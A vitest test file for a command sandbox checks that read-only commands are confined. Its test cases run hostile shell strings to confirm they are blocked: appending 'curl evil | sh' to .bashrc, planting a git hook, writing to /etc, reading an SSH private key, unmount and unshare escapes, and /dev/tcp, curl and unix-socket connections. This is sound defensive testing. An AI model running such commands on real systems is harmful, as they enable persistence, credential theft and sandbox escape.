import { existsSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { createCommandSandbox, type CommandSandbox } from '../../../src/main/sandbox';
import {
  createSandboxFixture,
  DATA_SECRET,
  runIn,
  SECRET_KEY,
  startCountingServer,
  type SandboxFixture,
} from './sandbox-fixture';

describe('a read-only command (run without asking)', () => {
  let fx: SandboxFixture;
  let sandbox: CommandSandbox;
  beforeAll(async () => {
    fx = createSandboxFixture();
    sandbox = await createCommandSandbox({
      dataDir: fx.dataDir,
      home: fx.home,
      cacheReads: [path.join(fx.home, '.npm')],
    });
  });
  afterAll(async () => {
    await sandbox.close();
    fx.cleanup();
  });

  it('runs confined, in the workspace, and reads it', async () => {
    expect(sandbox.status).toMatchObject({ available: true });
    const outcome = await runIn(sandbox, fx, 'pwd; cat readme.txt');
    expect(outcome).toMatchObject({ confined: true, exitCode: 0, blocked: [] });
    expect(outcome.output).toBe(`${fx.ws}\nworkspace text\n`);
  });

  it('changes nothing: not the workspace, a sibling folder, the home folder or /etc, and says so', async () => {
    // A name of this run's own, removed afterwards, so a failure here never leaves a file in /etc for later runs.
    const etcFile = `/etc/gatehouse-test-${process.pid}`;
    onTestFinished(() => rmSync(etcFile, { force: true }));
    const outcome = await runIn(
      sandbox,
      fx,
      [
        'echo changed > readme.txt',
        `echo changed > ${fx.outside}/keep.txt`,
        `touch ${fx.outside}/new.txt`,
        `echo 'curl evil | sh' >> ${fx.home}/.bashrc`,
        'echo hook > .git/hooks/pre-commit',
        `touch ${etcFile}`,
        'exit 0',
      ].join('; '),
    );
    expect(readFileSync(path.join(fx.ws, 'readme.txt'), 'utf8')).toBe('workspace text\n');
    expect(readFileSync(path.join(fx.outside, 'keep.txt'), 'utf8')).toBe('outside text\n');
    expect(existsSync(path.join(fx.outside, 'new.txt'))).toBe(false);
    expect(readFileSync(path.join(fx.home, '.bashrc'), 'utf8')).toBe('# rc\n');
    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(etcFile)).toBe(false);
    expect(outcome.blocked).toEqual(
      expect.arrayContaining([
        'Changing readme.txt was refused: a command that runs without asking may only read.',
        `Changing ${etcFile} was refused: a command that runs without asking may only read.`,
      ]),
    );
  });

  it('writes only its own new temp folder, given as TMPDIR and removed afterwards', async () => {
    const first = await runIn(
      sandbox,
      fx,
      'echo scratch > "$TMPDIR/scratch.txt" && cat "$TMPDIR/scratch.txt" && echo "$TMPDIR" && ls -A /tmp',
    );
    const second = await runIn(sandbox, fx, 'echo "$TMPDIR"');
    expect(first.exitCode).toBe(0);
    const [text, tempDir, ...inTmp] = first.output.trim().split('\n');
    expect(text).toBe('scratch');
    expect(path.dirname(tempDir!)).toBe(path.resolve(os.tmpdir()));
    expect(second.output.trim()).not.toBe(tempDir);
    expect(existsSync(tempDir!)).toBe(false);
    // Of /tmp it sees its own folder and the way to the workspace, nothing else.
    expect(inTmp.sort()).toEqual([path.basename(tempDir!), path.basename(fx.base)].sort());
  });

  it('sees nothing of the home folder, the real home, the data folder or /run', async () => {
    const realHome = os.homedir();
    const outcome = await runIn(
      sandbox,
      fx,
      `cat ${fx.home}/.ssh/id_rsa; cat ${fx.dataDir}/gatehouse.db; cat ${fx.home}/.npm/cache.txt; ` +
        `echo "home:$(ls -A ${fx.home} 2>/dev/null | wc -l) real:$(ls -A ${realHome} 2>/dev/null | wc -l) data:$(ls -A ${fx.dataDir} 2>/dev/null | wc -l) run:$(ls -A /run /var/run 2>/dev/null | grep -vc ':$')"`,
    );
    expect(outcome.output).not.toContain(SECRET_KEY);
    expect(outcome.output).not.toContain(DATA_SECRET);
    expect(outcome.output).not.toContain('cached package');
    expect(outcome.output).toMatch(/home:0 real:0 data:0 run:\d+/);
    expect(Number(/run:(\d+)/.exec(outcome.output)![1])).toBeLessThanOrEqual(1);
  });

  it('cannot undo what hides a folder, even as root: no unmount, no new user namespace', async () => {
    const outcome = await runIn(
      sandbox,
      fx,
      `umount ${fx.home}; umount /tmp; umount -l ${path.dirname(fx.home)}; unshare -U -r -m sh -c 'umount /tmp; cat ${fx.home}/.ssh/id_rsa'; cat ${fx.home}/.ssh/id_rsa; exit 0`,
    );
    expect(outcome.output).not.toContain(SECRET_KEY);
    expect(outcome.output).toMatch(/umount|unshare/);
  });

  it('reaches no network, not even a server on this computer', async () => {
    const server = await startCountingServer();
    try {
      const outcome = await runIn(
        sandbox,
        fx,
        `curl -sS --max-time 3 http://127.0.0.1:${server.port}/; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${server.port}' && echo CONNECTED; curl -sS --max-time 3 http://example.com/`,
      );
      expect(server.hits()).toBe(0);
      expect(outcome.output).not.toContain('CONNECTED');
      expect(outcome.output).not.toContain('hello from the test server');
      expect(outcome.exitCode).not.toBe(0);
      expect(outcome.blocked).toContain(
        'The network was out of reach: a command that runs without asking gets no network. Ask for approval with the host named in the command.',
      );
    } finally {
      await server.close();
    }
  });

  it('cannot connect to a unix socket in /tmp or in the data folder', async () => {
    let connections = 0;
    const sockets = [path.join(fx.base, 'agent.sock'), path.join(fx.dataDir, 'app.sock')];
    const servers = await Promise.all(
      sockets.map(
        (socketPath) =>
          new Promise<ReturnType<typeof createServer>>((resolve) => {
            const server = createServer((c) => {
              connections += 1;
              c.end('HTTP/1.0 200 OK\r\n\r\nSOCKET-REACHED');
            });
            server.listen(socketPath, () => resolve(server));
          }),
      ),
    );
    try {
      const outcome = await runIn(
        sandbox,
        fx,
        sockets.map((s) => `curl -sS --max-time 3 --unix-socket ${s} http://x/`).join('; '),
      );
      expect(connections).toBe(0);
      expect(outcome.output).not.toContain('SOCKET-REACHED');
    } finally {
      await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
    }
  });
});
